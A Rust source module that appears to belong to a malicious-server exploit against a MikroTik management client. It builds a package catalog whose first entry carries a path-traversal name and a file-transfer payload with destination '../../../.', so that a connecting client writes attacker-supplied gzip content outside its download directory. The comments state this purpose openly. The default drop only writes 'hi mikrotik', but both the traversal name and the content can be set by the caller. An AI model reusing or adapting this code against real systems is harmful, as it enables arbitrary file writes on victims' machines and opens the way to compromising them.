//! Package catalog and file-transfer payloads.
//!
//! The listing served to a client is brace-text, one line per package:
//!
//! ```text
//! { crc: 2939435109, size: 3082, name: "dhcp.jg", unique: "dhcp-eaa3bb8c4b37.jg", version: "6.39.3" },
//! ```
//!
//! The catalog travels inside a `list` message whose 18-byte header carries
//! the catalog byte-length; the whole message is chunk-encoded on the wire.
//! Because the client concatenates the advertised entry name onto its local
//! download directory without normalization, a traversal name in one entry
//! redirects the subsequent file transfer anywhere on the client host.

use super::error::{Error, Result};

/// Command name opening every listing message.
pub const LIST_COMMAND: &[u8; 4] = b"list";

/// Length of the `list` message headers.
pub const LIST_HEADER_LEN: usize = 18;

/// One catalog entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CatalogEntry {
    /// Advertised CRC of the package file.
    pub crc: u32,
    /// Advertised size in bytes.
    pub size: u32,
    /// Package file name as the client will store it.
    pub name: String,
    /// Package unique identifier; not all entries carry one.
    pub unique: Option<String>,
    /// Package version string.
    pub version: String,
}

impl CatalogEntry {
    fn render(&self) -> String {
        match &self.unique {
            Some(unique) => format!(
                "{{ crc: {}, size: {}, name: \"{}\", unique: \"{}\", version: \"{}\" }},\n",
                self.crc, self.size, self.name, unique, self.version
            ),
            None => format!(
                "{{ crc: {}, size: {}, name: \"{}\", version: \"{}\" }},\n",
                self.crc, self.size, self.name, self.version
            ),
        }
    }
}

/// The package catalog advertised to clients.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Catalog {
    /// Entries in listing order.
    pub entries: Vec<CatalogEntry>,
}

impl Catalog {
    /// Renders the catalog body (the listing text without its header).
    pub fn render(&self) -> Vec<u8> {
        let mut out = Vec::new();
        for entry in &self.entries {
            out.extend_from_slice(entry.render().as_bytes());
        }
        out
    }

    /// The catalog of a stock 6.39.3 install, with the first entry's name
    /// replaced by `traversal_name` so the matching download lands outside
    /// the client's package directory.
    pub fn stock_6_39_3(traversal_name: &str) -> Self {
        let entry = |crc: u32, size: u32, name: &str, unique: Option<&str>| CatalogEntry {
            crc,
            size,
            name: name.to_string(),
            unique: unique.map(str::to_string),
            version: "6.39.3".to_string(),
        };

        Self {
            entries: vec![
                entry(164562873, 36, traversal_name, Some("advtool-fc1932f6809e.jg")),
                entry(2939435109, 3082, "dhcp.jg", Some("dhcp-eaa3bb8c4b37.jg")),
                entry(1183779834, 12489, "dude.jg", Some("dude-65f18faed649.jg")),
                entry(444782794, 433, "gps.jg", Some("gps-21fa81423a5e.jg")),
                entry(2740765060, 4060, "hotspot.jg", Some("hotspot-2813a8dedd22.jg")),
                entry(1093970965, 22451, "icons.png", None),
                entry(1377190509, 6389, "ipv6.jg", Some("ipv6-38ef11eebb50.jg")),
                entry(165461532, 1473, "kvm.jg", Some("kvm-6e1029470a44.jg")),
                entry(667857209, 455, "lcd.jg", Some("lcd-30a740bf5375.jg")),
                entry(2317237032, 3578, "mpls.jg", Some("mpls-9e478c42eb58.jg")),
                entry(332542720, 457, "ntp.jg", Some("ntp-412e80e06f88.jg")),
                entry(2870762863, 2342, "pim.jg", Some("pim-fac4ce9edd44.jg")),
                entry(2324128268, 4399, "ppp.jg", Some("ppp-5d3353bc82f1.jg")),
                entry(1771368162, 61639, "roteros.jg", Some("roteros-228bb3ad6def.jg")),
                entry(2911091806, 8240, "roting4.jg", Some("roting4-2cabe59181eb.jg")),
                entry(367607478, 3434, "secure.jg", Some("secure-772b3b028ba8.jg")),
                entry(1617938236, 765, "ups.jg", Some("ups-e29683c8d492.jg")),
                entry(3264462467, 15604, "wlan6.jg", Some("wlan6-032bb1ee138d.jg")),
            ],
        }
    }
}

/// Builds the full listing message: header plus rendered catalog.
pub fn listing_payload(catalog: &Catalog) -> Vec<u8> {
    let body = catalog.render();
    let mut out = Vec::with_capacity(LIST_HEADER_LEN + body.len());
    out.extend_from_slice(LIST_COMMAND);
    out.extend_from_slice(&[0u8; 7]);
    out.push(0x01);
    out.extend_from_slice(&(body.len() as u16).to_be_bytes());
    out.extend_from_slice(&[0u8; 4]);
    out.extend_from_slice(&body);
    out
}

/// Reads the aggregate listing length from the first chunk of a listing
/// message (header plus advertised catalog length).
pub fn listing_total_len(first_chunk: &[u8]) -> Result<usize> {
    if first_chunk.len() < LIST_HEADER_LEN {
        return Err(Error::Truncated {
            field: "list header",
            needed: LIST_HEADER_LEN,
            available: first_chunk.len(),
        });
    }
    if &first_chunk[..4] != LIST_COMMAND {
        return Err(Error::TagNotFound("list command"));
    }
    let body_len = u16::from_be_bytes([first_chunk[12], first_chunk[13]]) as usize;
    Ok(LIST_HEADER_LEN + body_len)
}

/// Builds the listing-close reply, echoing the catalog byte-length at the
/// tail of the header.
pub fn close_payload(catalog: &Catalog) -> Vec<u8> {
    let body_len = catalog.render().len() as u16;
    let mut out = Vec::with_capacity(LIST_HEADER_LEN);
    out.extend_from_slice(LIST_COMMAND);
    out.extend_from_slice(&[0u8; 7]);
    out.push(0x01);
    out.extend_from_slice(&[0u8; 4]);
    out.extend_from_slice(&body_len.to_be_bytes());
    out
}

/// The file pushed to a client that downloads the traversal entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileDrop {
    /// Destination path written into the transfer header. Relative
    /// components are resolved by the client against its download root.
    pub destination: String,
    /// Literal content bytes (a gzip stream, as the client expects for
    /// package downloads).
    pub content: Vec<u8>,
}

impl FileDrop {
    /// The default drop: a gzip of `hi mikrotik\n` written into the
    /// client user's public directory via the traversal entry.
    pub fn hello_drop() -> Self {
        Self {
            destination: "../../../.".to_string(),
            content: vec![
                0x1f, 0x8b, 0x08, 0x08, 0x62, 0x85, 0x1f, 0x5e, 0x00, 0x03, 0x6c, 0x6f,
                0x6c, 0x00, 0xcb, 0xc8, 0x54, 0xc8, 0xcd, 0xcc, 0x2e, 0xca, 0x2f, 0xc9,
                0xcc, 0xe6, 0x02, 0x00, 0xc8, 0x62, 0x79, 0x42, 0x0c, 0x00, 0x00, 0x00,
            ],
        }
    }

    /// Builds the transfer payload: destination path, NUL, a constant
    /// 0x01, the content length as a little-endian u32, two zero bytes,
    /// then the content itself.
    pub fn transfer_payload(&self) -> Vec<u8> {
        let mut out =
            Vec::with_capacity(self.destination.len() + 8 + self.content.len());
        out.extend_from_slice(self.destination.as_bytes());
        out.push(0x00);
        out.push(0x01);
        out.extend_from_slice(&(self.content.len() as u32).to_le_bytes());
        out.extend_from_slice(&[0u8; 2]);
        out.extend_from_slice(&self.content);
        out
    }
}
